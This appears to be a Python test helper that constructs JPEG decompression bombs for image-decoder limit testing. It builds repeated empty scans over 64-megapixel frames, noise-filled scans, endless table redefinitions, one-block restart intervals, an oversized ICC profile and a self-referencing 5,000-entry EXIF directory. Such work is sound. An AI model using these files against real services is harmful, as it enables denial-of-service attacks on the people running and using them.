"""JPEG files that cost far more than their size (ITU-T T.81, annex B), written without an encoder.

Every function returns one file. `budget` is the size in bytes that the file may have.
"""

from __future__ import annotations

import struct

SIDE = 8184  # pixels; its square is just below the default limit of 64 Mi pixels
BASELINE, EXTENDED, PROGRESSIVE, LOSSLESS = 0xC0, 0xC1, 0xC2, 0xC3
ARITHMETIC, ARITHMETIC_PROGRESSIVE = 0xC9, 0xCA
_IS_PROGRESSIVE = (PROGRESSIVE, ARITHMETIC_PROGRESSIVE)
_START, _END = b"\xff\xd8", b"\xff\xd9"


def repeated_scans(budget: int, frame: int, side: int = SIDE, components: int = 3) -> bytes:
    """Return a frame whose scans are repeated without data: each costs a pass over all blocks."""
    head = _START + _tables(frame) + _frame(frame, side, side, components)
    first = b"".join(_scan([number], frame) for number in range(1, components + 1))
    again = _scan([1], frame, first=1) if frame in _IS_PROGRESSIVE else _scan([1], frame)
    count = max(1, (budget - len(head) - len(first) - 2) // len(again))
    return head + first + again * count + _END


def one_scan(
    width: int, height: int, frame: int = BASELINE, components: int = 3, body: bytes = b""
) -> bytes:
    """Return a frame with one scan of all components, whose data may be missing."""
    numbers = list(range(1, components + 1))
    head = _START + _tables(frame) + _frame(frame, width, height, components)
    return head + _scan(numbers, frame) + body + _END


def noise_scan(budget: int, frame: int = BASELINE) -> bytes:
    """Return a frame of 64 megapixels whose scan is full of codes."""
    return one_scan(SIDE, SIDE, frame, body=b"\x55\xaa\x33\x99" * (budget // 4 - 200))


def scans_with_data(budget: int) -> bytes:
    """Return a progressive frame of many refining scans, each with some data."""
    head = _START + _tables(PROGRESSIVE) + _frame(PROGRESSIVE, 2048, 2048, 3)
    first = _scan([1, 2, 3], PROGRESSIVE)
    refine = b"".join(
        _scan([1], PROGRESSIVE, first=1, last=63, approximation=high << 4 | (high - 1))
        + b"\xa5" * 512
        for high in range(13, 0, -1)
    )
    count = max(1, (budget - len(head)) // len(refine))
    return head + first + _scan([1], PROGRESSIVE, first=1, approximation=13) + refine * count + _END


def segments(budget: int, marker: int, body: bytes, picture: bytes) -> bytes:
    """Return `picture` after as many segments as fit."""
    one = _segment(marker, body)
    return _START + one * max(1, (budget - len(picture)) // len(one)) + picture[2:]


def fill_bytes(budget: int, picture: bytes) -> bytes:
    """Return `picture` after fill bytes (B.1.1.2: any number may precede a marker)."""
    return _START + b"\xff" * (budget - len(picture)) + picture[2:]


def many_tables(budget: int) -> bytes:
    """Return a picture that defines its quantization and Huffman tables again and again."""
    tables = _tables(BASELINE)
    return _START + tables * (budget // len(tables)) + one_scan(64, 64)[2:]


def restarts(budget: int) -> bytes:
    """Return a picture with a restart interval of one block, and restart markers as its data."""
    head = _START + _tables(BASELINE) + _segment(0xDD, struct.pack(">H", 1))
    body = b"".join(b"\xff" + bytes([0xD0 + number % 8]) for number in range(8))
    head += _frame(BASELINE, SIDE, SIDE, 1) + _scan([1], BASELINE)
    return head + body * ((budget - len(head)) // len(body)) + _END


def profile(budget: int, picture: bytes) -> bytes:
    """Return `picture` with an ICC profile in 255 parts, as large as fits."""
    size = min(65_000, budget // 255)
    parts = [
        _segment(0xE2, b"ICC_PROFILE\0" + bytes((number, 255)) + b"\x5a" * size)
        for number in range(1, 256)
    ]
    return _START + b"".join(parts) + picture[2:]


def exif_directories(budget: int, picture: bytes) -> bytes:
    """Return `picture` with EXIF segments whose directory has 5,000 entries and leads to itself."""
    entries = b"".join(struct.pack(">HHII", 0x0100, 4, 1, 7) for _ in range(5000))
    tiff = b"MM\0*" + struct.pack(">I", 8) + struct.pack(">H", 5000) + entries
    return segments(budget, 0xE1, b"Exif\0\0" + tiff + struct.pack(">I", 8), picture)


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def _tables(frame: int) -> bytes:
    quantization = _segment(0xDB, b"\0" + b"\1" * 64)
    if frame >= ARITHMETIC:
        return quantization
    # One code of one bit each: DC difference 0, AC end of block; the second, AC: end of a run.
    dc = _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\0")
    ac = _segment(0xC4, b"\x10" + bytes([1, 1] + [0] * 14) + b"\x00\xe0")
    return quantization + dc + ac


def _frame(marker: int, width: int, height: int, components: int) -> bytes:
    named = b"".join(bytes((number, 0x11, 0)) for number in range(1, components + 1))
    return _segment(marker, struct.pack(">BHHB", 8, height, width, components) + named)


def _scan(
    numbers: list[int], frame: int, first: int = 0, last: int = 63, approximation: int = 0
) -> bytes:
    last = 0 if frame == LOSSLESS or (frame in _IS_PROGRESSIVE and first == 0) else last
    named = b"".join(bytes((number, 0)) for number in numbers)
    return _segment(0xDA, bytes((len(numbers),)) + named + bytes((first, last, approximation)))
